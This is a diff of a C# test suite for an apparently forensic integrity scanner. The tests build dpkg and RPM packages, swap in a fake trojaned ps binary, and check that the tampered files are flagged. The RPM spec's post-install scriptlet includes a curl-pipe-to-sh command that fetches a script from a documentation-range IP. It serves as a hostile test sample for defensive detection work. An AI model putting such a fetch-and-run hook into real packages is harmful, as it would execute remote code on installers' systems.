@@ -18,7 +18,7 @@ public sealed class RealPackagesTests : IDisposable
         Assert.SkipUnless(Has("dpkg-deb"), "needs dpkg");
         string root = Root();
         string package = _machine.At("package");
-        foreach (string name in (string[])["ps", "top", "ls", "raretool"])
+        foreach (string name in (string[])["ps", "top", "ls", "anytool"])
         {
             Program(package + "/usr/bin/" + name, name);
         }
@@ -26,7 +26,7 @@ public sealed class RealPackagesTests : IDisposable
         Write(package + "/DEBIAN/control", "Package: tools\nVersion: 1.2-3\nArchitecture: all\nMaintainer: Debian Tools <tools@lists.debian.org>\nDescription: test\n");
         Write(package + "/DEBIAN/conffiles", "/etc/tool.conf\n");
         Write(package + "/DEBIAN/postinst", "#!/bin/sh\nset -e\nexit 0\n");
-        Write(package + "/DEBIAN/md5sums", string.Concat(((string[])["ps", "top", "ls", "raretool"]).Select(name => Machine.Run("md5sum", ["usr/bin/" + name], null, package))));
+        Write(package + "/DEBIAN/md5sums", string.Concat(((string[])["ps", "top", "ls", "anytool"]).Select(name => Machine.Run("md5sum", ["usr/bin/" + name], null, package))));
         Machine.Run("chmod", ["755", package + "/DEBIAN/postinst"]);
         Machine.Run("dpkg-deb", ["--root-owner-group", "-b", package, _machine.At("tools.deb")]);
         Directory.CreateDirectory(root + "/var/lib/dpkg/info");
@@ -35,14 +35,14 @@ public sealed class RealPackagesTests : IDisposable
         Machine.Run("dpkg", ["--root=" + root, "--force-not-root", "--force-script-chrootless", "--force-depends", "--log=/dev/null", "-i", _machine.At("tools.deb")]);
         Program(root + "/usr/bin/ps", "trojan");
         Write(root + "/etc/tool.conf", "a=2\n");
-        File.AppendAllText(root + "/usr/bin/raretool", "changed");
+        File.AppendAllText(root + "/usr/bin/anytool", "changed");
         // dpkg says "??5?????? c /etc/tool.conf" and the same for both programs.
         string verified = Machine.Run("bash", ["-c", "dpkg --root=" + root + " --verify || true"]);
-        Assert.Equal(["/etc/tool.conf", "/usr/bin/raretool", "/usr/bin/ps"], verified.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => line[line.IndexOf('/', StringComparison.Ordinal)..]).Order(StringComparer.Ordinal));
+        Assert.Equal(["/etc/tool.conf", "/usr/bin/anytool", "/usr/bin/ps"], verified.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => line[line.IndexOf('/', StringComparison.Ordinal)..]).Order(StringComparer.Ordinal));
 
         JsonObject report = Deadbox.Scan(Image(root)).Report;
         Assert.Equal(1, (int)report["hosts"]![0]!["packageManagers"]!["dpkg"]!);
-        Assert.Equal([("L-BIN.package-files-changed", "medium", "/usr/bin/raretool"), ("L-BIN.vital-program-replaced", "critical", "/usr/bin/ps")], Integrity(report));
+        Assert.Equal([("L-BIN.package-files-changed", "medium", "/usr/bin/anytool"), ("L-BIN.vital-program-replaced", "critical", "/usr/bin/ps")], Integrity(report));
         Assert.Equal(Integrity(report).Where(finding => finding.Path == "/usr/bin/ps"), Integrity(Deadbox.Scan(Image(root), "--profile", "triage").Report));
     }
 
@@ -65,7 +65,7 @@ public sealed class RealPackagesTests : IDisposable
             Test.
             %install
             mkdir -p %{buildroot}/usr/bin %{buildroot}/etc
-            for name in ps top ls raretool; do printf '\177ELF\002\001\001%%s' $name >%{buildroot}/usr/bin/$name; done
+            for name in ps top ls anytool; do printf '\177ELF\002\001\001%%s' $name >%{buildroot}/usr/bin/$name; done
             echo a=1 >%{buildroot}/etc/tool.conf
             %post
             curl -fsS http://203.0.113.9/p.sh | sh
@@ -76,7 +76,7 @@ public sealed class RealPackagesTests : IDisposable
         Machine.Run("rpmbuild", ["-bb", "--define", "_topdir " + build, "--define", "_build_id_links none", "--define", "__os_install_post %{nil}", build + "/tools.spec"]);
         string package = Directory.EnumerateFiles(build + "/RPMS", "*.rpm", SearchOption.AllDirectories).Single();
         Machine.Run("rpm", ["--root", root, "--dbpath", "/var/lib/rpm", "--define", "_db_backend sqlite", "--justdb", "--nodeps", "--noscripts", "--ignorearch", "-i", package]);
-        foreach (string name in (string[])["ps", "top", "ls", "raretool"])
+        foreach (string name in (string[])["ps", "top", "ls", "anytool"])
         {
             Program(root + "/usr/bin/" + name, name);
         }
